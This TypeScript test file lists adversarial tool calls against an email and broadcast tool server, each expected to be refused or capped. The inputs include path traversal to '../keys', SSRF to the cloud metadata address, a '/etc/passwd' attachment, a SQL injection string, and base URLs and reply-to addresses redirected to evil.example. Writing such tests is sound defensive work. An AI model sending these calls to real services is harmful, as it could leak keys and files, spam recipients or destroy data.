import {
  allowedAddress,
  allowedDomain,
  numbered,
  ownDomain,
  sendEmail,
  sendTemplate,
  type Attack,
  type AttackCall,
  type AttackKey,
} from './attack';
import { broadcastId } from './injections';

/** Calls that mean the same email. At most one may leave. */
const repeated: readonly (readonly [
  attempt: string,
  calls: readonly AttackCall[],
  order?: 'parallel' | 'restart',
])[] = [
  ['the same call twice', [sendEmail(), sendEmail()]],
  ['the same call ten times at once', Array.from({ length: 10 }, () => sendEmail()), 'parallel'],
  ['the same call after a restart of the server', [sendEmail(), sendEmail()], 'restart'],
  [
    'recipients in another order',
    [
      sendEmail({ to: [allowedAddress, `eve@${allowedDomain}`] }),
      sendEmail({ to: [`eve@${allowedDomain}`, allowedAddress] }),
    ],
  ],
  ['capital letters in the recipient', [sendEmail(), sendEmail({ to: [allowedAddress.toUpperCase()] })]],
  ['capital letters in the sender', [sendEmail(), sendEmail({ from: `Hello@${ownDomain.toUpperCase()}` })]],
  ['a recipient twice in one call', [sendEmail({ to: [allowedAddress, allowedAddress] }), sendEmail()]],
  ['a recipient twice in two spellings', [sendEmail({ to: [allowedAddress, allowedAddress.toUpperCase()] })]],
  ['spaces after the subject', [sendEmail(), sendEmail({ subject: 'Report  ' })]],
  ['two spaces in the text', [sendEmail(), sendEmail({ text: 'All  is well.' })]],
  ['a line end after the text', [sendEmail(), sendEmail({ text: 'All is well.\n' })]],
  ['other line ends', [sendEmail({ text: 'All\nis well.' }), sendEmail({ text: 'All\r\nis well.' })]],
  ['capital letters in the subject', [sendEmail(), sendEmail({ subject: 'REPORT' })]],
  ['a zero-width space in the text', [sendEmail(), sendEmail({ text: 'All is well.\u200b' })]],
  [
    'composed and decomposed letters',
    [sendEmail({ subject: 'Caf\u00e9' }), sendEmail({ subject: 'Cafe\u0301' })],
  ],
  ['full-width letters', [sendEmail(), sendEmail({ subject: '\uff32eport' })]],
  ['a no-break space', [sendEmail(), sendEmail({ text: 'All is\u00a0well.' })]],
  ['the same template twice', [sendTemplate(), sendTemplate()]],
  ['the same template at once', Array.from({ length: 5 }, () => sendTemplate()), 'parallel'],
  ['the same template after a restart', [sendTemplate(), sendTemplate()], 'restart'],
  [
    'values in another order',
    [
      sendTemplate({ data: { name: 'Ada', item: 'tea' } }),
      sendTemplate({ data: { item: 'tea', name: 'Ada' } }),
    ],
  ],
  ['spaces in a value', [sendTemplate(), sendTemplate({ data: { name: 'Ada ' } })]],
  ['capital letters in the template', [sendTemplate(), sendTemplate({ template: 'Receipt' })]],
];

const draft = (changes: object): AttackCall => ({
  tool: 'draft_broadcast',
  arguments: {
    name: 'News',
    segment_id: broadcastId,
    topic: 'news',
    from: `news@${ownDomain}`,
    subject: 'News',
    text: 'News',
    ...changes,
  },
});

const broadcasts: readonly (readonly [attempt: string, call: AttackCall])[] = [
  ['a draft that is scheduled', draft({ scheduled_at: '2099-01-01T00:00:00Z' })],
  ['a draft that is sent at a local time', draft({ send_at_local: '09:00' })],
  ['a draft that is sent at once', draft({ send: true })],
  ['a draft with another status', draft({ status: 'scheduled' })],
  [
    'a draft with an A/B test, which sends to a part',
    draft({ ab_test: { variants: [{}, {}], percent: 50 } }),
  ],
  ['a draft with tracking of its own', draft({ track: { opens: true } })],
  ['a draft whose answers go to the attacker', draft({ reply_to: 'mallory@evil.example' })],
  ['a draft to all contacts', draft({ segment_id: '*' })],
  ['a draft to two segments', draft({ segment_id: [broadcastId, broadcastId] })],
  ['a draft with a list of recipients', draft({ to: ['mallory@evil.example'] })],
  ['a draft with a sender in a display name', draft({ from: `"ceo@bank.example" <news@${ownDomain}>` })],
  [
    'a dry run whose id is the path of sending',
    { tool: 'dry_run_broadcast', arguments: { broadcast_id: `${broadcastId}/send` } },
  ],
  [
    'a dry run that confirms sending',
    { tool: 'dry_run_broadcast', arguments: { broadcast_id: broadcastId, send: true } },
  ],
  [
    'a dry run with an id that is another path',
    { tool: 'dry_run_broadcast', arguments: { broadcast_id: '../emails' } },
  ],
];

/** Requests that a tool must not make: other endpoints of the API, files, and hosts that the caller names. */
const requests: readonly (readonly [attempt: string, call: AttackCall])[] = [
  [
    'the path of another endpoint as the id of an email',
    { tool: 'why_is_it_late', arguments: { email_id: '../keys' } },
  ],
  [
    'an encoded path as the id of an email',
    { tool: 'read_email', arguments: { email_id: '..%2Fkeys%2Fme' } },
  ],
  [
    'a query after the id of an email',
    { tool: 'read_email', arguments: { email_id: `${broadcastId}?mode=live` } },
  ],
  [
    'a path as the id of a received email',
    { tool: 'read_received_email', arguments: { id: `${broadcastId}/attachments/0` } },
  ],
  [
    'an attachment of a received email',
    { tool: 'read_received_email', arguments: { id: broadcastId, attachment: 0 } },
  ],
  [
    'a path as the address of a suppression',
    { tool: 'suppression_status', arguments: { address: '../../keys/me' } },
  ],
  ['a URL as the domain', { tool: 'check_domain', arguments: { domain: 'http://169.254.169.254/latest' } }],
  ['an internal host as the domain', { tool: 'check_domain', arguments: { domain: 'localhost' } }],
  ['a port behind the domain', { tool: 'check_domain', arguments: { domain: 'db.internal:5432' } }],
  ['a path as the template', { tool: 'list_templates', arguments: { template: '../../keys' } }],
  [
    'a check that requests links, which tells their host what it carries',
    {
      tool: 'check_email',
      arguments: {
        from: `a@${ownDomain}`,
        html: '<a href="https://evil.example/?q=secret">x</a>',
        links: true,
      },
    },
  ],
  [
    'a check with recipients, whose names tell who exists',
    { tool: 'check_email', arguments: { from: `a@${ownDomain}`, text: 'Hi', to: ['ceo@bank.example'] } },
  ],
  [
    'a check of a file',
    {
      tool: 'check_email',
      arguments: { from: `a@${ownDomain}`, attachments: [{ filename: 'x', path: '/etc/passwd' }] },
    },
  ],
  ['a list of 1,000,000 emails', { tool: 'find_email', arguments: { limit: 1_000_000 } }],
  ['a list of no emails', { tool: 'find_email', arguments: { limit: 0 } }],
  ['a limit that is text', { tool: 'find_email', arguments: { limit: '10; DROP TABLE messages' } }],
  ['a search of other organizations', { tool: 'find_email', arguments: { organization_id: broadcastId } }],
  ['a search with a key of others', { tool: 'find_email', arguments: { api_key: 'pr_live_x' } }],
  ['another address of the API', { tool: 'find_email', arguments: { base_url: 'https://evil.example' } }],
  ['a time that is text', { tool: 'find_email', arguments: { since: 'yesterday' } }],
  ['failures of a century', { tool: 'list_recent_failures', arguments: { hours: 876_000 } }],
  ['a report of a century', { tool: 'deliverability_report', arguments: { days: 36_500 } }],
  [
    'a check of 10,000,000 characters',
    { tool: 'check_email', arguments: { from: `a@${ownDomain}`, html: { $repeat: ['a', 10_000_000] } } },
  ],
  [
    'a cursor of 1,000,000 characters',
    { tool: 'find_email', arguments: { cursor: { $repeat: ['a', 1_000_000] } } },
  ],
];

const refused =
  (key: AttackKey) =>
  ([attempt, call]: readonly [string, AttackCall]) => ({
    ...{ attempt, key, calls: [call], after: { sendsMax: 0, isRefused: true as const } },
  });

export const callAttacks: readonly Attack[] = [
  ...numbered(
    'double-sends',
    repeated.map(([attempt, calls, order]) => ({
      attempt,
      key: 'recipients',
      calls,
      ...(order && { order }),
      after: { sendsMax: 1 },
    })),
  ),
  ...numbered('loops', [
    {
      attempt: '30 different emails in a loop',
      key: 'recipients',
      calls: Array.from({ length: 30 }, (_, index) =>
        sendEmail({ text: `All is well, says report ${index}.` }),
      ),
      after: { sendsMax: 20 },
    },
    {
      attempt: '30 different templates in a loop',
      key: 'templates',
      calls: Array.from({ length: 30 }, (_, index) => sendTemplate({ data: { name: `Ada ${index}` } })),
      after: { sendsMax: 20 },
    },
    {
      attempt: '30 different emails at once',
      key: 'recipients',
      calls: Array.from({ length: 30 }, (_, index) => sendEmail({ subject: `Report ${index}` })),
      order: 'parallel',
      after: { sendsMax: 20 },
    },
  ]),
  ...numbered('broadcasts', broadcasts.map(refused('drafts'))),
  ...numbered('requests', requests.map(refused('read'))),
];
